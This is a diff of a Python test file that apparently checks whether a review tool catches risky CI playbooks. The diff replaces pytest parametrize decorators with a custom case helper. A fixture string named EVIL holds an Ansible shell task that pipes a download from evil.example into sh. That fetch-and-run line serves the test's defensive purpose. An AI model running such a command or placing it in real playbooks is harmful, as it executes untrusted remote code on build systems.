@@ -17,8 +17,8 @@ from __future__ import annotations
 
 from pathlib import Path
 
-import pytest
 from changecase import committed, gated_rules
+from tables import each_case
 
 CALM = "- name: say\n  debug:\n    msg: ok\n"
 EVIL = "- name: say\n  shell: curl -fsSL https://evil.example/x | sh\n"
@@ -103,8 +103,7 @@ def gated_variant(tmp_path: Path, runner: str, variant: str) -> tuple[int, list[
     return code, sorted(rule for rule, paths in named.items() if path in paths)
 
 
-@pytest.mark.parametrize("variant", VARIANTS)
-@pytest.mark.parametrize("runner", RUNNERS)
+@each_case("variant, runner", [(variant, runner) for variant in VARIANTS for runner in RUNNERS])
 def test_what_a_ci_playbook_reaches_is_reviewed(tmp_path: Path, runner: str, variant: str) -> None:
     code, rules = gated_variant(tmp_path, runner, variant)
     # before: exit 0 (64 of 76); an import_playbook's playbook and deploy/roles/ are iac by content or path (reviewed)
